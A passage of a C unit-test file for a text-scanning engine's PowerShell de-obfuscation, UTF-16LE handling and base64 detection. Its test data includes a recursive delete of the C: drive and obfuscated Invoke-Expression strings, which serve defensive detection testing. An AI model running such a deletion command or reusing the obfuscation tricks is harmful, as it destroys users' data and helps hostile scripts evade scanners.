/*
 * test_text.c - unit tests for engine/src/text.c: UTF-16LE detection and narrowing, the
 * normalised view, base64 runs and decoding, and decompression of decoded blobs.
 *
 * Buffers handed to the functions under test are heap blocks of exactly the size promised, so a
 * run under AddressSanitizer catches any access past them. Compressed inputs are made here with
 * zlib and liblzma. The last test pushes a few thousand pseudo-random inputs through every
 * function and checks the invariants the header promises. Randomness comes from a seeded
 * generator, so every run sees the same inputs.
 */
#define ZLIB_CONST
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <lzma.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#include "text.h"

static const char b64_std[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
static const char b64_url[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/* ---------------------------------------------------------------------------------------------
 * Helpers
 * ------------------------------------------------------------------------------------------- */

/* A seeded splitmix64 generator; each test owns one. */
typedef struct rng {
    uint64_t s;
} rng;

static uint64_t rng_next(rng *r)
{
    uint64_t z = (r->s += 0x9E3779B97F4A7C15u);

    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9u;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBu;
    return z ^ (z >> 31);
}

/* A number in [0, n); 0 when n is 0. */
static size_t rng_below(rng *r, size_t n)
{
    return n == 0 ? 0 : (size_t)(rng_next(r) % n);
}

/* A heap copy of p[0..n) of exactly n bytes, so reads past it are caught by ASan. */
static uint8_t *dup_exact(const void *p, size_t n)
{
    uint8_t *q = malloc(n);

    assert_true(q != NULL || n == 0);
    if (n > 0)
        memcpy(q, p, n);
    return q;
}

/* Encodes p[0..n) as base64 in alphabet abc, with or without padding; returns the length. */
static size_t b64_encode(const uint8_t *p, size_t n, const char *abc, bool pad, char *out)
{
    size_t i, w = 0;

    for (i = 0; i + 3 <= n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (uint32_t)p[i + 1] << 8 | p[i + 2];

        out[w++] = abc[v >> 18];
        out[w++] = abc[(v >> 12) & 63];
        out[w++] = abc[(v >> 6) & 63];
        out[w++] = abc[v & 63];
    }
    if (n - i == 1) {
        out[w++] = abc[p[i] >> 2];
        out[w++] = abc[(p[i] & 3) << 4];
        if (pad) {
            out[w++] = '=';
            out[w++] = '=';
        }
    } else if (n - i == 2) {
        out[w++] = abc[p[i] >> 2];
        out[w++] = abc[((p[i] & 3) << 4) | (p[i + 1] >> 4)];
        out[w++] = abc[(p[i + 1] & 15) << 2];
        if (pad)
            out[w++] = '=';
    }
    out[w] = '\0';
    return w;
}

/* Widens an ASCII string to UTF-16LE; returns the byte length. */
static size_t utf16le_from_ascii(const char *s, uint8_t *out)
{
    size_t i, n = strlen(s);

    for (i = 0; i < n; i++) {
        out[2 * i] = (uint8_t)s[i];
        out[2 * i + 1] = 0;
    }
    return 2 * n;
}

/* Compresses with zlib's deflate: window_bits -15 raw, 15 zlib, 31 gzip. Returns the length. */
static size_t deflate_with(const uint8_t *in, size_t n, int window_bits, uint8_t *out, size_t cap)
{
    z_stream zs;
    size_t len;

    memset(&zs, 0, sizeof zs);
    assert_int_equal(deflateInit2(&zs, 9, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY), Z_OK);
    zs.next_in = in;
    zs.avail_in = (uInt)n;
    zs.next_out = out;
    zs.avail_out = (uInt)cap;
    assert_int_equal(deflate(&zs, Z_FINISH), Z_STREAM_END);
    len = (size_t)zs.total_out;
    assert_int_equal(deflateEnd(&zs), Z_OK);
    return len;
}

/* Compresses into an .xz stream with the given preset. Returns the length. */
static size_t xz_with(const uint8_t *in, size_t n, uint32_t preset, uint8_t *out, size_t cap)
{
    size_t pos = 0;

    assert_int_equal(lzma_easy_buffer_encode(preset, LZMA_CHECK_CRC64, NULL, in, n, out, &pos, cap),
                     LZMA_OK);
    return pos;
}

/* Compresses p[0..n) as codec into a malloc'd buffer; returns it and its length in *len. */
static uint8_t *compress_as(engine__codec codec, const uint8_t *p, size_t n, uint32_t xz_preset,
                            size_t *len)
{
    size_t cap = n + n / 8 + 1024;
    uint8_t *buf;

    *len = 0;
    if (codec == ENGINE__CODEC_XZ)
        cap = lzma_stream_buffer_bound(n);
    buf = malloc(cap);
    assert_non_null(buf);
    switch (codec) {
    case ENGINE__CODEC_DEFLATE:
        *len = deflate_with(p, n, -15, buf, cap);
        break;
    case ENGINE__CODEC_ZLIB:
        *len = deflate_with(p, n, 15, buf, cap);
        break;
    case ENGINE__CODEC_GZIP:
        *len = deflate_with(p, n, 31, buf, cap);
        break;
    case ENGINE__CODEC_XZ:
        *len = xz_with(p, n, xz_preset, buf, cap);
        break;
    case ENGINE__CODEC_NONE:
        fail();
    }
    return buf;
}

/* Fills buf with PowerShell-like text; returns the length written (at most cap - 1). */
static size_t make_script(char *buf, size_t cap)
{
    size_t w = 0;
    unsigned i = 0;

    while (cap - w > 100) {
        int k = snprintf(buf + w, cap - w, "Write-Host 'line %u of the script'; $total += %u\r\n",
                         i, i * 7u);
        assert_true(k > 0);
        w += (size_t)k;
        i++;
    }
    return w;
}

/* True if p[0..n) is well-formed UTF-8 with no surrogates and nothing above U+10FFFF. */
static bool utf8_valid(const uint8_t *p, size_t n)
{
    size_t i = 0;

    while (i < n) {
        uint32_t cp;
        size_t len, k;

        if (p[i] < 0x80) {
            i++;
            continue;
        }
        if ((p[i] & 0xE0) == 0xC0) {
            len = 2;
            cp = p[i] & 0x1Fu;
        } else if ((p[i] & 0xF0) == 0xE0) {
            len = 3;
            cp = p[i] & 0x0Fu;
        } else if ((p[i] & 0xF8) == 0xF0) {
            len = 4;
            cp = p[i] & 0x07u;
        } else {
            return false;
        }
        if (n - i < len)
            return false;
        for (k = 1; k < len; k++) {
            if ((p[i + k] & 0xC0) != 0x80)
                return false;
            cp = cp << 6 | (p[i + k] & 0x3Fu);
        }
        if ((len == 2 && cp < 0x80) || (len == 3 && cp < 0x800) || (len == 4 && cp < 0x10000))
            return false;
        if ((cp >= 0xD800 && cp <= 0xDFFF) || cp > 0x10FFFF)
            return false;
        i += len;
    }
    return true;
}

/* Narrows in[0..n) with a generous output and checks the result is want[0..wn). */
static void check_narrow(const uint8_t *in, size_t n, const uint8_t *want, size_t wn)
{
    uint8_t *src = dup_exact(in, n);
    size_t cap = n / 2 * 3;
    uint8_t *out = malloc(cap + 1);
    size_t r;

    assert_non_null(out);
    r = engine__utf16le_narrow(src, n, out, cap);
    assert_int_equal(r, wn);
    if (wn > 0)
        assert_memory_equal(out, want, wn);
    free(out);
    free(src);
}

/* Normalises the string in with cap = its length and checks the result is the string want. */
static void check_normalize(const char *in, const char *want)
{
    size_t n = strlen(in), wn = strlen(want);
    uint8_t *src = dup_exact(in, n);
    uint8_t *out = malloc(n + 1);
    size_t r;

    assert_non_null(out);
    r = engine__normalize(src, n, out, n);
    if (r != wn || memcmp(out, want, wn) != 0) {
        print_error("normalize(\"%s\") gave \"%.*s\", want \"%s\"\n", in, (int)r, (char *)out,
                    want);
        fail();
    }
    free(out);
    free(src);
}

/* Decodes the base64 string in with a generous cap and checks the result is want[0..wn). */
static void check_decode(const char *in, const void *want, size_t wn)
{
    size_t n = strlen(in);
    uint8_t *src = dup_exact(in, n);
    uint8_t out[64];
    size_t r = engine__base64_decode(src, n, out, sizeof out);

    assert_int_equal(r, wn);
    if (wn > 0)
        assert_memory_equal(out, want, wn);
    free(src);
}

/* The reference base64 run finder: reads every byte, no skipping. */
static bool ref_is_b64(uint8_t c)
{
    return c != 0 && strchr(b64_std, c) != NULL;
}

static bool ref_base64_next(const uint8_t *p, size_t n, size_t *pos, size_t min_run,
                            engine__span *span)
{
    size_t i = *pos;

    if (min_run < 8)
        min_run = 8;
    while (i < n) {
        size_t s, e;

        if (!ref_is_b64(p[i])) {
            i++;
            continue;
        }
        s = i;
        while (i < n && ref_is_b64(p[i]))
            i++;
        if (i - s >= min_run) {
            e = i;
            while (e < n && e - i < 2 && p[e] == '=')
                e++;
            span->off = s;
            span->len = e - s;
            *pos = e;
            return true;
        }
    }
    return false;
}

/* Runs engine__base64_next over p[0..n) from pos and checks every run against the reference. */
static size_t compare_runs(const uint8_t *p, size_t n, size_t pos, size_t min_run)
{
    size_t a = pos, b = pos, count = 0;
    engine__span sa, sb;

    for (;;) {
        bool fa = engine__base64_next(p, n, &a, min_run, &sa);
        bool fb = ref_base64_next(p, n, &b, min_run, &sb);

        assert_int_equal(fa, fb);
        if (!fa)
            break;
        assert_int_equal(sa.off, sb.off);
        assert_int_equal(sa.len, sb.len);
        assert_int_equal(a, b);
        assert_true(sa.off + sa.len <= n);
        count++;
    }
    return count;
}

/* ---------------------------------------------------------------------------------------------
 * engine__utf16le_detect
 * ------------------------------------------------------------------------------------------- */

static void test_detect_bom(void **state)
{
    static const uint8_t bom[] = {0xFF, 0xFE};
    static const uint8_t bom_text[] = {0xFF, 0xFE, 'a', 'b', 'c'};
    static const uint8_t be_bom[] = {0xFE, 0xFF, 0, 'a', 0, 'b', 0, 'c', 0, 'd'};
    uint8_t *p;

    (void)state;
    p = dup_exact(bom, sizeof bom);
    assert_true(engine__utf16le_detect(p, sizeof bom, false));
    assert_false(engine__utf16le_detect(p, 1, false));
    free(p);
    /* The BOM alone decides, whatever follows. */
    p = dup_exact(bom_text, sizeof bom_text);
    assert_true(engine__utf16le_detect(p, sizeof bom_text, false));
    free(p);
    /* A big-endian BOM with big-endian text is not UTF-16LE. */
    p = dup_exact(be_bom, sizeof be_bom);
    assert_false(engine__utf16le_detect(p, sizeof be_bom, false));
    free(p);
}

static void test_detect_hint(void **state)
{
    static const uint8_t ascii[] = "plain ascii text, not wide";
    uint8_t *p = dup_exact(ascii, sizeof ascii - 1);

    (void)state;
    assert_true(engine__utf16le_detect(p, sizeof ascii - 1, true));
    assert_false(engine__utf16le_detect(p, sizeof ascii - 1, false));
    assert_true(engine__utf16le_detect(p, 2, true));
    assert_false(engine__utf16le_detect(p, 1, true));
    assert_false(engine__utf16le_detect(p, 0, true));
    assert_false(engine__utf16le_detect(NULL, 0, true));
    assert_false(engine__utf16le_detect(NULL, 0, false));
    free(p);
}

static void test_detect_nul_ratio(void **state)
{
    uint8_t buf[200], *p;
    size_t n, i;

    (void)state;
    n = utf16le_from_ascii("Get-ChildItem -Path C:\\ -Recurse | Remove-Item", buf);
    p = dup_exact(buf, n);
    assert_true(engine__utf16le_detect(p, n, false));
    free(p);

    /* 100 bytes: 50 odd offsets, 50 even. 45 NULs at odd offsets is exactly 90 %. */
    memset(buf, 'a', 100);
    for (i = 0; i < 45; i++)
        buf[2 * i + 1] = 0;
    p = dup_exact(buf, 100);
    assert_true(engine__utf16le_detect(p, 100, false));
    free(p);
    buf[2 * 44 + 1] = 'a'; /* 44 of 50: below 90 % */
    p = dup_exact(buf, 100);
    assert_false(engine__utf16le_detect(p, 100, false));
    free(p);

    /* All odd offsets NUL; 4 of 50 even offsets NUL is under 10 %, 5 is not. */
    for (i = 0; i < 50; i++) {
        buf[2 * i] = 'a';
        buf[2 * i + 1] = 0;
    }
    for (i = 0; i < 4; i++)
        buf[2 * i] = 0;
    p = dup_exact(buf, 100);
    assert_true(engine__utf16le_detect(p, 100, false));
    free(p);
    buf[8] = 0;
    p = dup_exact(buf, 100);
    assert_false(engine__utf16le_detect(p, 100, false));
    free(p);

    /* All zeros: odd and even offsets both NUL. */
    memset(buf, 0, sizeof buf);
    p = dup_exact(buf, sizeof buf);
    assert_false(engine__utf16le_detect(p, sizeof buf, false));
    free(p);
}

static void test_detect_short_and_odd(void **state)
{
    uint8_t buf[64], *p;
    size_t n;

    (void)state;
    /* Under 8 bytes only the hint or the BOM count. */
    n = utf16le_from_ascii("abc", buf);
    p = dup_exact(buf, n);
    assert_false(engine__utf16le_detect(p, n, false));
    assert_true(engine__utf16le_detect(p, n, true));
    free(p);
    n = utf16le_from_ascii("abcd", buf);
    p = dup_exact(buf, n);
    assert_true(engine__utf16le_detect(p, n, false));
    free(p);
    /* An odd length (a trailing byte) does not hide the pattern. */
    n = utf16le_from_ascii("abcdefgh", buf);
    buf[n] = 'z';
    p = dup_exact(buf, n + 1);
    assert_true(engine__utf16le_detect(p, n + 1, false));
    free(p);
    /* 9 bytes with a NUL as the odd last byte (an even offset): 1 of 5 even offsets is 20 %. */
    n = utf16le_from_ascii("abcd", buf);
    buf[n] = 0;
    p = dup_exact(buf, 9);
    assert_false(engine__utf16le_detect(p, 9, false));
    free(p);
}

static void test_detect_prefix_only(void **state)
{
    uint8_t *buf = malloc(4096);
    size_t i;

    (void)state;
    assert_non_null(buf);
    /* UTF-16LE in the first 512 bytes, then ASCII: judged on the prefix only. */
    for (i = 0; i < 512; i += 2) {
        buf[i] = 'x';
        buf[i + 1] = 0;
    }
    memset(buf + 512, 'y', 4096 - 512);
    assert_true(engine__utf16le_detect(buf, 4096, false));
    /* ASCII first, UTF-16LE after 512 bytes: not detected. */
    memset(buf, 'y', 512);
    for (i = 512; i < 4096; i += 2) {
        buf[i] = 'x';
        buf[i + 1] = 0;
    }
    assert_false(engine__utf16le_detect(buf, 4096, false));
    free(buf);
}

/* ---------------------------------------------------------------------------------------------
 * engine__utf16le_narrow
 * ------------------------------------------------------------------------------------------- */

static void test_narrow_basic(void **state)
{
    static const uint8_t ascii[] = {'H', 0, 'i', 0};
    static const uint8_t bom[] = {0xFF, 0xFE, 'H', 0, 'i', 0};
    static const uint8_t bom_only[] = {0xFF, 0xFE};
    static const uint8_t mid_bom[] = {'a', 0, 0xFF, 0xFE};
    static const uint8_t mid_bom_want[] = {'a', 0xEF, 0xBB, 0xBF};
    static const uint8_t two[] = {0xE9, 0x00};
    static const uint8_t two_want[] = {0xC3, 0xA9};
    static const uint8_t three[] = {0xAC, 0x20};
    static const uint8_t three_want[] = {0xE2, 0x82, 0xAC};
    static const uint8_t nul[] = {0, 0, 'a', 0};
    static const uint8_t nul_want[] = {0, 'a'};
    static const uint8_t max_bmp[] = {0xFF, 0xFF};
    static const uint8_t max_bmp_want[] = {0xEF, 0xBF, 0xBF};

    (void)state;
    check_narrow(ascii, sizeof ascii, (const uint8_t *)"Hi", 2);
    check_narrow(bom, sizeof bom, (const uint8_t *)"Hi", 2);
    check_narrow(bom_only, sizeof bom_only, NULL, 0);
    check_narrow(mid_bom, sizeof mid_bom, mid_bom_want, sizeof mid_bom_want);
    check_narrow(two, sizeof two, two_want, sizeof two_want);
    check_narrow(three, sizeof three, three_want, sizeof three_want);
    check_narrow(nul, sizeof nul, nul_want, sizeof nul_want);
    check_narrow(max_bmp, sizeof max_bmp, max_bmp_want, sizeof max_bmp_want);
}

static void test_narrow_surrogates(void **state)
{
    /* U+1F600 is D83D DE00; U+10FFFF is DBFF DFFF; U+10000 is D800 DC00. */
    static const uint8_t pair[] = {0x3D, 0xD8, 0x00, 0xDE};
    static const uint8_t pair_want[] = {0xF0, 0x9F, 0x98, 0x80};
    static const uint8_t edges[] = {0x00, 0xD8, 0x00, 0xDC, 0xFF, 0xDB, 0xFF, 0xDF};
    static const uint8_t edges_want[] = {0xF0, 0x90, 0x80, 0x80, 0xF4, 0x8F, 0xBF, 0xBF};
    static const uint8_t high_end[] = {'a', 0, 0x3D, 0xD8};
    static const uint8_t high_end_want[] = {'a', 0xEF, 0xBF, 0xBD};
    static const uint8_t high_then_ascii[] = {0x3D, 0xD8, 'b', 0};
    static const uint8_t high_then_ascii_want[] = {0xEF, 0xBF, 0xBD, 'b'};
    static const uint8_t lone_low[] = {0x00, 0xDE, 'c', 0};
    static const uint8_t lone_low_want[] = {0xEF, 0xBF, 0xBD, 'c'};
    static const uint8_t high_high_low[] = {0x3D, 0xD8, 0x3D, 0xD8, 0x00, 0xDE};
    static const uint8_t high_high_low_want[] = {0xEF, 0xBF, 0xBD, 0xF0, 0x9F, 0x98, 0x80};
    static const uint8_t low_high[] = {0x00, 0xDE, 0x3D, 0xD8};
    static const uint8_t low_high_want[] = {0xEF, 0xBF, 0xBD, 0xEF, 0xBF, 0xBD};
    /* A high surrogate followed by an odd trailing byte: the byte is dropped, the high is lone. */
    static const uint8_t high_odd[] = {0x3D, 0xD8, 0x00};
    static const uint8_t high_odd_want[] = {0xEF, 0xBF, 0xBD};

    (void)state;
    check_narrow(pair, sizeof pair, pair_want, sizeof pair_want);
    check_narrow(edges, sizeof edges, edges_want, sizeof edges_want);
    check_narrow(high_end, sizeof high_end, high_end_want, sizeof high_end_want);
    check_narrow(high_then_ascii, sizeof high_then_ascii, high_then_ascii_want,
                 sizeof high_then_ascii_want);
    check_narrow(lone_low, sizeof lone_low, lone_low_want, sizeof lone_low_want);
    check_narrow(high_high_low, sizeof high_high_low, high_high_low_want,
                 sizeof high_high_low_want);
    check_narrow(low_high, sizeof low_high, low_high_want, sizeof low_high_want);
    check_narrow(high_odd, sizeof high_odd, high_odd_want, sizeof high_odd_want);
}

static void test_narrow_odd_and_empty(void **state)
{
    static const uint8_t odd[] = {'A', 0, 'B'};
    static const uint8_t one[] = {'A'};
    uint8_t out[8];

    (void)state;
    check_narrow(odd, sizeof odd, (const uint8_t *)"A", 1);
    check_narrow(one, sizeof one, NULL, 0);
    check_narrow(odd, 0, NULL, 0);
    assert_int_equal(engine__utf16le_narrow(NULL, 0, out, sizeof out), 0);
    assert_int_equal(engine__utf16le_narrow(odd, sizeof odd, NULL, 0), 0);
}

static void test_narrow_cap(void **state)
{
    /* "a", U+00E9, U+20AC, U+1F600, "z": UTF-8 sequences of 1, 2, 3, 4 and 1 bytes. */
    static const uint8_t in[] = {'a', 0, 0xE9, 0x00, 0xAC, 0x20, 0x3D, 0xD8, 0x00, 0xDE, 'z', 0};
    static const uint8_t full[] = {'a', 0xC3, 0xA9, 0xE2, 0x82, 0xAC, 0xF0, 0x9F, 0x98, 0x80, 'z'};
    /* The longest whole-sequence prefix for each cap from 0 to 11. */
    static const size_t want[] = {0, 1, 1, 3, 3, 3, 6, 6, 6, 6, 10, 11};
    size_t cap;

    (void)state;
    for (cap = 0; cap < sizeof want / sizeof want[0]; cap++) {
        uint8_t *src = dup_exact(in, sizeof in);
        uint8_t *out = malloc(cap ? cap : 1);
        size_t r;

        assert_non_null(out);
        r = engine__utf16le_narrow(src, sizeof in, out, cap);
        assert_int_equal(r, want[cap]);
        if (r > 0)
            assert_memory_equal(out, full, r);
        free(out);
        free(src);
    }
}

/* ---------------------------------------------------------------------------------------------
 * engine__normalize
 * ------------------------------------------------------------------------------------------- */

static void test_normalize_backticks(void **state)
{
    (void)state;
    check_normalize("I`nv`oke-Ex`pression", "invoke-expression");
    check_normalize("``", "`");
    check_normalize("a``b", "a`b");
    check_normalize("a`", "a");
    check_normalize("`", "");
    check_normalize("`A", "a");
    /* The escaped character is kept as it is: `n is the letter n, not a newline. */
    check_normalize("a`nb`t", "anbt");
    /* A line continuation is just whitespace. */
    check_normalize("Get-Item `\n    -Path x", "get-item -path x");
    /* An escaped quote is a plain character and opens no string. */
    check_normalize("a`'b 'x'+'y'", "a'b 'xy'");
    check_normalize("\"a`\"b\"+\"c\"", "\"a\"bc\"");
}

static void test_normalize_concat(void **state)
{
    (void)state;
    check_normalize("'ab'+'cd'", "'abcd'");
    check_normalize("\"ab\" + \"cd\"", "\"abcd\"");
    check_normalize("'a'  +  'b'+'c'", "'abc'");
    check_normalize("&('Invo'+'ke-Expr'+'ession') $x", "&('invoke-expression') $x");
    /* Mixed quote kinds join too; each quote + quote junction is dropped as it is. */
    check_normalize("('Invo'+'ke'+ \"-Expr\" )", "('invoke-expr\" )");
    /* A stray quote (in a comment) does not stop later joins. */
    check_normalize("# don't\n'a'+'b'", "# don't 'ab'");
    check_normalize("\"x'y\"+'z'", "\"x'yz'");
    /* Gaps may hold tabs, newlines and line continuations. */
    check_normalize("'a'\t+\r\n'b'", "'ab'");
    check_normalize("'a' `\n+ `\n 'b'", "'ab'");
    /* A whitespace run that spans the join is still one space. */
    check_normalize("'ab '+' cd'", "'ab cd'");
    /* Not concatenations of two literals: left alone. */
    check_normalize("'a'+ $b", "'a'+ $b");
    check_normalize("$b +'a'", "$b +'a'");
    check_normalize("'a' 'b'", "'a' 'b'");
    check_normalize("'a'+", "'a'+");
    check_normalize("'a'+ ", "'a'+ ");
    check_normalize("'a' -", "'a' -");
    check_normalize("'a'+`'b'", "'a'+'b'");
    /* PowerShell's doubled quote inside a string survives unchanged. */
    check_normalize("'it''s'", "'it''s'");
    /* A string never closed runs to the end. */
    check_normalize("'unterminated + 'x", "'unterminated + 'x");
    check_normalize("'open", "'open");
}

static void test_normalize_case_and_space(void **state)
{
    static const char utf8_in[] = "\xC3\x89"
                                  "COLE \xC3\xA9t\xC3\xA9";
    static const char utf8_want[] = "\xC3\x89"
                                    "cole \xC3\xA9t\xC3\xA9";

    (void)state;
    check_normalize("Invoke-EXPRESSION", "invoke-expression");
    check_normalize("AZaz@[`{09", "azaz@[{09");
    check_normalize("  Get-Item\t\t-Path \r\n\r\n X  ", " get-item -path x ");
    check_normalize("a\v\fb", "a b");
    check_normalize("\n", " ");
    check_normalize("'A  B'", "'a b'");
    /* Non-ASCII bytes pass unchanged. */
    check_normalize(utf8_in, utf8_want);
    check_normalize("", "");
}

/* The normalised view byte by byte, as documented in text.h: the reference for the vector loops. */
static bool naive_space(uint8_t c)
{
    return c == ' ' || (c >= '\t' && c <= '\r');
}

static size_t naive_gap(const uint8_t *in, size_t n, size_t i)
{
    while (i < n) {
        if (naive_space(in[i]))
            i++;
        else if (in[i] == '`' && i + 1 < n && naive_space(in[i + 1]))
            i += 2;
        else
            break;
    }
    return i;
}

static size_t naive_normalize(const uint8_t *in, size_t n, uint8_t *out, size_t cap)
{
    size_t i = 0, w = 0;
    bool space = false;

    while (i < n && w < cap) {
        uint8_t c = in[i++];
        bool escaped = false;

        if (c == '`') {
            if (i == n)
                break;
            c = in[i++];
            escaped = true;
        }
        if (naive_space(c)) {
            if (!space)
                out[w++] = ' ';
            space = true;
            continue;
        }
        if (!escaped && (c == '\'' || c == '"')) {
            size_t k = naive_gap(in, n, i);
            if (k < n && in[k] == '+') {
                k = naive_gap(in, n, k + 1);
                if (k < n && (in[k] == '\'' || in[k] == '"')) {
                    i = k + 1;
                    continue;
                }
            }
        }
        out[w++] = (c >= 'A' && c <= 'Z') ? (uint8_t)(c | 0x20) : c;
        space = false;
    }
    return w;
}

/*
 * The vector loops (SSE2, and AVX2 where the CPU has it, each as the widest one) against the
 * byte-by-byte reference on
 * random text: long and short whitespace runs of every kind (across 16- and 32-byte blocks),
 * quotes, joins, backticks, capitals and bytes from 0x80, at every output capacity class.
 */
static void test_normalize_vs_naive(void **state)
{
    static const char *const pieces[] = {" ",
                                         "\t",
                                         "\n",
                                         "\r\n",
                                         "\v",
                                         "\f",
                                         "    ",
                                         "\t\t\t",
                                         "'",
                                         "\"",
                                         "`",
                                         "+",
                                         "' + '",
                                         "'+'",
                                         "`\n",
                                         "Invoke",
                                         "EXPRESSION",
                                         "-Path",
                                         "$x",
                                         "\xC3\xA9",
                                         "\xFF",
                                         "ab",
                                         "Z",
                                         "                                        ",
                                         "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n",
                                         " \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f"
                                         " \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f \t\r\n\v\f"
                                         " \t\r\n\v\f \t\r\n\v\f \t"};
    static const unsigned levels[] = {0, ENGINE__VEC_SSE2, ENGINE__VEC_SSE2 | ENGINE__VEC_AVX2};
    unsigned have = engine__normalize_vectors();
    rng r = {0x5EED0002};

    (void)state;
    if ((have & ENGINE__VEC_AVX2) == 0)
        print_message("note: no AVX2 here, its normalise loop is not checked\n");
    for (size_t iter = 0; iter < 4000; iter++) {
        size_t n = 0, want_n = rng_below(&r, 400);
        uint8_t *buf = malloc(want_n + 128); /* room for the longest piece */
        assert_non_null(buf);
        while (n < want_n) {
            const char *piece = pieces[rng_below(&r, sizeof pieces / sizeof pieces[0])];
            size_t k = strlen(piece);
            /* Mostly plain words, so the vector loops run long stretches. */
            if (rng_below(&r, 3) == 0) {
                piece = "Get-ChildItem -Recurse | Where-Object ";
                k = strlen(piece) - rng_below(&r, 10);
            }
            memcpy(buf + n, piece, k);
            n += k;
        }
        size_t cap = rng_below(&r, 4) == 0 ? rng_below(&r, n + 1) : n;
        uint8_t *src = dup_exact(buf, n);
        uint8_t *got = malloc(cap + 1), *want = malloc(cap + 1);
        assert_non_null(got);
        assert_non_null(want);
        size_t wn = naive_normalize(src, n, want, cap);
        assert_int_equal(engine__normalize(src, n, got, cap), wn);
        assert_memory_equal(got, want, wn);
        /* Every loop this CPU has, each as the widest one. */
        for (size_t k = 0; k < sizeof levels / sizeof levels[0]; k++) {
            if ((levels[k] & have) != levels[k])
                continue;
            size_t gn = engine__normalize_with(src, n, got, cap, levels[k]);
            if (gn != wn || memcmp(got, want, wn) != 0)
                fail_msg("normalize (vector loops %#x) differs from the reference at iteration "
                         "%zu (n %zu, cap %zu)",
                         levels[k], iter, n, cap);
        }
        free(src);
        free(got);
        free(want);
        free(buf);
    }
}

static void test_normalize_cap(void **state)
{
    static const char in[] = "  I`nv`OKE  ('Invo' + 'ke'+\"-Ex\")\t\t`\n|  Out-Null ";
    static const char want[] = " invoke ('invoke-ex\") | out-null ";
    size_t n = sizeof in - 1, wn = sizeof want - 1, cap;

    (void)state;
    check_normalize(in, want);
    for (cap = 0; cap <= n + 2; cap++) {
        uint8_t *src = dup_exact(in, n);
        uint8_t *out = malloc(cap ? cap : 1);
        size_t r;

        assert_non_null(out);
        r = engine__normalize(src, n, out, cap);
        assert_int_equal(r, cap < wn ? cap : wn);
        if (r > 0)
            assert_memory_equal(out, want, r);
        free(out);
        free(src);
    }
    assert_int_equal(engine__normalize(NULL, 0, NULL, 0), 0);
}

/* ---------------------------------------------------------------------------------------------
 * engine__base64_next
 * ------------------------------------------------------------------------------------------- */

static void test_b64_next_runs(void **state)
{
    static const char text[] = "x = 'SGVsbG8gV29ybGQh' ; y = \"aGVsbG8tX3dvcmxk_-8\" short A1b2 "
                               "dGVzdGluZw== dGVzdGluZzE=== end QUJDREVGR0g";
    size_t n = sizeof text - 1, pos = 0;
    uint8_t *p = dup_exact(text, n);
    engine__span s;

    (void)state;
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.len, 16);
    assert_memory_equal(p + s.off, "SGVsbG8gV29ybGQh", 16);
    assert_int_equal(pos, s.off + s.len);

    /* The URL-safe '-' and '_' are not part of a run: they end it. */
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.len, 16);
    assert_memory_equal(p + s.off, "aGVsbG8tX3dvcmxk", 16);

    /* "short" and "A1b2" are too short; padding is part of the run, at most two '='. */
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.len, 12);
    assert_memory_equal(p + s.off, "dGVzdGluZw==", 12);
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.len, 13);
    assert_memory_equal(p + s.off, "dGVzdGluZzE==", 13);
    assert_int_equal(p[pos], '=');

    /* A run that ends the buffer. */
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.off + s.len, n);
    assert_memory_equal(p + s.off, "QUJDREVGR0g", 11);
    assert_int_equal(pos, n);
    assert_false(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(pos, n);
    free(p);
}

static void test_b64_next_bounds(void **state)
{
    static const char text[] = "abcdefghij.klmnopqrs.0123456789";
    size_t n = sizeof text - 1, pos;
    uint8_t *p = dup_exact(text, n);
    engine__span s;

    (void)state;
    /* Runs of exactly 10 and 9 characters. */
    pos = 0;
    assert_true(engine__base64_next(p, n, &pos, 10, &s));
    assert_int_equal(s.off, 0);
    assert_int_equal(s.len, 10);
    assert_true(engine__base64_next(p, n, &pos, 10, &s));
    assert_int_equal(s.off, 21);
    assert_int_equal(s.len, 10);
    assert_false(engine__base64_next(p, n, &pos, 10, &s));
    pos = 0;
    assert_false(engine__base64_next(p, n, &pos, 11, &s));
    assert_int_equal(pos, 0);
    pos = 0;
    assert_true(engine__base64_next(p, n, &pos, 9, &s));
    assert_true(engine__base64_next(p, n, &pos, 9, &s));
    assert_int_equal(s.off, 11);
    assert_int_equal(s.len, 9);

    /* A start inside a run clips the run at the start. */
    pos = 2;
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.off, 2);
    assert_int_equal(s.len, 8);
    pos = 3;
    assert_true(engine__base64_next(p, n, &pos, 8, &s));
    assert_int_equal(s.off, 11);

    /* A start at or past the end finds nothing; a buffer shorter than min_run neither. */
    pos = n;
    assert_false(engine__base64_next(p, n, &pos, 8, &s));
    pos = n + 5;
    assert_false(engine__base64_next(p, n, &pos, 8, &s));
    pos = 0;
    assert_false(engine__base64_next(p, 7, &pos, 8, &s));
    assert_false(engine__base64_next(p, 0, &pos, 8, &s));
    assert_false(engine__base64_next(NULL, 0, &pos, 8, &s));
    assert_false(engine__base64_next(p, n, NULL, 8, &s));
    assert_false(engine__base64_next(p, n, &pos, 8, NULL));
    /* A huge min_run does not overflow. */
    assert_false(engine__base64_next(p, n, &pos, SIZE_MAX, &s));
    free(p);

    /* min_run below 8 counts as 8. */
    p = dup_exact("abcdefg abcdefgh", 16);
    pos = 0;
    assert_true(engine__base64_next(p, 16, &pos, 0, &s));
    assert_int_equal(s.off, 8);
    assert_int_equal(s.len, 8);
    pos = 0;
    assert_true(engine__base64_next(p, 16, &pos, 4, &s));
